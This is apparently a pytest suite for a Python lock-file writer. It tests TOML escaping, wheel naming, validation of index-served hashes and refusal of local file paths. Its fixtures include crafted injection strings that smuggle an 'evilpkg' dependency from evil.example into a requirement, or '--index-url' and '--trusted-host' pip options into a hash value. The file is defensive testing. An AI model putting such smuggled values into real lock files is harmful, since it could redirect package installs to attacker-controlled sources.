"""Locks that hold (issue 42): every TOML a lock writer writes goes through one escaping writer
(:mod:`cudamatrix.lock.toml`) and is read back here with tomllib; a pylock names each wheel by its file name;
a hash an index serves reaches a lock only as 64 hexadecimal digits; a lock names a path of this machine only
when asked (``--allow-local-files``), and then says so. The writers run on real pip reports against a loopback
index (tests/support/localindex.py)."""
from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

if sys.version_info >= (3, 11):
    import tomllib
else:  # Python 3.10: tomllib's predecessor (the test extra installs it there)
    import tomli as tomllib

import pytest
from support.fakes import run_cli
from support.localindex import LocalIndex, build_wheel, copy_venv, pip_env

from cudamatrix.errors import UsageError
from cudamatrix.lock import toml
from cudamatrix.models import Pin, Solution

ROOT = Path(__file__).parent.resolve().parents[1]
TARGET = ["--driver", "550.54.15", "--gpu", "7.5", "--python", "3.11"]
PY = f"{sys.version_info[0]}.{sys.version_info[1]}"
# a marker with quotes, and a requirement crafted to close the string and add a dependency of its own
MARKER = 'numpy<2; python_version >= "3.9"'
CRAFTED = """numpy; python_version == '", "evilpkg @ https://evil.example/x.whl", "'"""


def _cli(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    return run_cli(list(args), env=dict(os.environ) if env is None else env, input="", timeout=600, text=True,
                   cwd=ROOT)


# --- the one TOML writer -------------------------------------------------------------------------------------

@pytest.mark.parametrize("text", [
    "", "plain", 'a "quoted" word', "back\\slash", "\\u0041 is not A", "tab\tnew\nline\rcr", "\x00\x01\x1f\x7f",
    "".join(chr(c) for c in range(128)), "☃ ünïcode \u202e", CRAFTED, '"]\nevil = true\n["', "'''", '"""',
])
def test_every_string_reads_back_as_written(text):
    doc = tomllib.loads(f"{toml.key('k')} = {toml.string(text)}\n"
                        f"a = {toml.array([text, 'x'])}\nt = {toml.inline_table({'in': text})}\n")
    assert doc == {"k": text, "a": [text, "x"], "t": {"in": text}}
    assert "\n" not in toml.string(text)  # one line: the writers' line check never sees a break


def test_keys_are_bare_only_when_toml_allows():
    assert toml.key("nvidia-cudnn-cu12") == "nvidia-cudnn-cu12" and toml.key("a_b") == "a_b"
    for odd in ("", "a.b", "a b", 'x"y', "ü"):
        assert tomllib.loads(f"{toml.key(odd)} = 1") == {odd: 1}


def test_a_uv_lock_of_a_marker_with_quotes_or_a_crafted_requirement_reads_back_as_asked(tmp_path):
    """``lock --format uv`` wrote ``"numpy; python_version >= "3.9""`` (invalid TOML) and let a requirement add
    ``evilpkg @ https://...`` as a dependency of its own. Written with the escaping writer, the file is valid and
    holds exactly the requirements asked for."""
    out = tmp_path / "pyproject.toml"
    r = _cli("lock", "torch", MARKER, CRAFTED, *TARGET, "--format", "uv", "-o", str(out))
    assert r.returncode == 0, r.stdout + r.stderr
    doc = tomllib.loads(out.read_text())
    deps = doc["project"]["dependencies"]
    assert deps[1:] == [str(_req(MARKER)), str(_req(CRAFTED))]  # as packaging writes them, one item each
    assert deps[0].startswith("torch==") and not any(d.startswith("evilpkg") for d in deps)
    (index,) = doc["tool"]["uv"]["index"]
    assert doc["tool"]["uv"]["sources"] == {"torch": [{"index": index["name"]}]} and index["explicit"] is True


def _req(text: str):
    from packaging.requirements import Requirement

    return Requirement(text)


# --- pylock: file names and hashes, on real pip reports ------------------------------------------------------

def _solution(name: str, version: str) -> Solution:
    return Solution(request=[f"{name}=={version}"], targets=["t"], packages=[Pin(name=name, version=version)],
                    matrix_version="test")


def _target():
    from cudamatrix.solve.target import Target

    return Target(name="t", python=PY, platform="linux_x86_64")


@pytest.fixture()
def tiny_index(tmp_path):
    """A loopback index serving ``tiny 1.0+cpu`` at a URL with a query string (a signed URL): the segment is
    ``tiny-1.0%2Bcpu-py3-none-any.whl?sig=a%20b&x=1``."""
    build_wheel(tmp_path / "wheels", "tiny", "1.0+cpu")
    with LocalIndex(tmp_path / "wheels", query="?sig=a%20b&x=1") as index:
        yield index, pip_env(index.url + "/simple", tmp_path / "cache")


@pytest.mark.slow
def test_a_pylock_names_the_file_not_its_url_segment(tiny_index, monkeypatch):
    from cudamatrix.cli.lockfiles import lock_writer

    index, env = tiny_index
    for k, v in env.items():
        monkeypatch.setenv(k, v)
    text = lock_writer("pylock", False, "2.35", name="pylock.toml")(_solution("tiny", "1.0+cpu"), [_target()], [])
    (package,) = tomllib.loads(text)["packages"]
    (wheel,) = package["wheels"]
    assert wheel["name"] == "tiny-1.0+cpu-py3-none-any.whl"  # PEP 751: the file name
    assert wheel["url"] == f"{index.url}/files/tiny-1.0%2Bcpu-py3-none-any.whl?sig=a%20b&x=1"
    assert len(wheel["hashes"]["sha256"]) == 64


@pytest.mark.slow
@pytest.mark.parametrize("served", ["00 --index-url http://evil.example/simple", "00", "Z" * 64,
                                    "0" * 63 + "\n--trusted-host evil.example", "0" * 65])
def test_a_hash_the_index_serves_goes_into_a_lock_only_as_64_hex_digits(tiny_index, served):
    """pip's installation report carries the hash the index gives for a file (pip takes it from the listing when it
    does not download the file, as with PEP 658 metadata). A real report, its hash replaced by what a hostile index
    serves: the lock is refused, naming the file, and neither writer sees the text."""
    from cudamatrix.lock.closure import LockSpec, from_report
    from cudamatrix.lock.resolve import locked_report

    _, env = tiny_index
    report = locked_report(["tiny==1.0+cpu"], [], LockSpec("linux_x86_64", PY, "2.35"), environ=env)
    (good,) = from_report(report)
    assert len(good.sha256) == 64
    info = report["install"][0]["download_info"]["archive_info"]
    info["hashes"] = {"sha256": served}
    with pytest.raises(UsageError) as err:
        from_report(report)
    assert err.value.message.startswith("tiny-1.0+cpu-py3-none-any.whl: the index gave ")
    assert "not 64 hexadecimal digits" in err.value.message and "\n" not in err.value.message
    info["hashes"] = {}
    info["hash"] = f"sha256={served}"  # pip 22.2's form
    with pytest.raises(UsageError):
        from_report(report)
    info["hash"] = "sha256=" + good.sha256.upper()  # upper-case hex is a hash: written lower-case
    assert from_report(report)[0].sha256 == good.sha256


# --- paths of this machine -----------------------------------------------------------------------------------

def _folder_index(root: Path, wheels: Path) -> str:
    """A PEP 503 index in a folder (``file:///.../simple``), as pip reads one."""
    for wheel in wheels.glob("*.whl"):
        page = root / "simple" / wheel.name.split("-")[0].replace("_", "-").lower()
        page.mkdir(parents=True, exist_ok=True)
        (page / "index.html").write_text(f'<a href="{wheel.as_uri()}">{wheel.name}</a>\n')
    return (root / "simple").as_uri()


@pytest.mark.slow
@pytest.mark.installs
@pytest.mark.parametrize("fmt", ["requirements", "pylock"])
def test_a_lock_names_no_local_path_unless_asked(tmp_path, monkeypatch, template_venv, fmt):
    """pip follows whatever index it is configured with, file:// folders included: such a lock is refused (exit
    2, saying how to allow it); allowed, its header says so and the writer reports the paths (the JSON's
    ``local_files``), and pip installs it here."""
    from cudamatrix.cli.lockfiles import lock_writer

    build_wheel(tmp_path / "wheels", "tiny", "1.0")
    url = _folder_index(tmp_path / "folder", tmp_path / "wheels")
    env = pip_env(url, tmp_path / "cache")
    for k, v in env.items():
        monkeypatch.setenv(k, v)
    solution = _solution("tiny", "1.0")
    with pytest.raises(UsageError) as err:
        lock_writer(fmt, False, "2.35")(solution, [_target()], [])
    assert err.value.exit_code == 2 and "a path of this machine (file://" in err.value.message
    assert "--allow-local-files" in err.value.hint
    write = lock_writer(fmt, False, "2.35", allow_local=True)
    text = write(solution, [_target()], [])
    assert write.local == [(tmp_path / "wheels" / "tiny-1.0-py3-none-any.whl").as_uri()]
    assert f"# local files (--allow-local-files): this lock names paths of the machine it was written on, " \
           f"which other machines may lack: {write.local[0]}" in text
    if fmt == "pylock":
        assert tomllib.loads(text)["packages"][0]["wheels"][0]["url"] == write.local[0]
        return
    lock = tmp_path / "requirements.txt"
    lock.write_text(text)
    py = copy_venv(template_venv, tmp_path / "venv")
    done = subprocess.run([str(py), "-m", "pip", "install", "--require-hashes", "-r", str(lock)], env=env,
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr


@pytest.mark.parametrize("fmt, args", [("uv", []), ("requirements", ["--pins-only"])])
def test_the_cli_refuses_a_local_index_url_unless_asked(tmp_path, fmt, args):
    """The index a lock names comes from --mirror too: a file:// mirror is refused before anything is written
    (exit 2, the way to allow it named); with --allow-local-files the lock's header and the JSON say so."""
    out = tmp_path / ("pyproject.toml" if fmt == "uv" else "requirements.txt")
    mirror = ["--mirror", (tmp_path / "mirror").as_uri()]
    r = _cli("lock", "torch", *TARGET, "--format", fmt, *args, *mirror, "-o", str(out))
    assert r.returncode == 2 and "--allow-local-files" in r.stderr and "Traceback" not in r.stderr, r.stderr
    assert not out.exists()
    r = _cli("lock", "torch", *TARGET, "--format", fmt, *args, *mirror, "-o", str(out), "--allow-local-files",
             "--json")
    assert r.returncode == 0, r.stdout + r.stderr
    data = json.loads(r.stdout)["data"]
    assert data["local_files"] and data["local_files"][0].startswith((tmp_path / "mirror").as_uri())
    assert "# local files (--allow-local-files)" in out.read_text()
    if fmt == "uv":
        assert tomllib.loads(out.read_text())["tool"]["uv"]["index"][0]["url"] == data["local_files"][0]
    plain = _cli("lock", "torch", *TARGET, "--format", fmt, *args, "--json")
    assert plain.returncode == 0 and json.loads(plain.stdout)["data"]["local_files"] == []
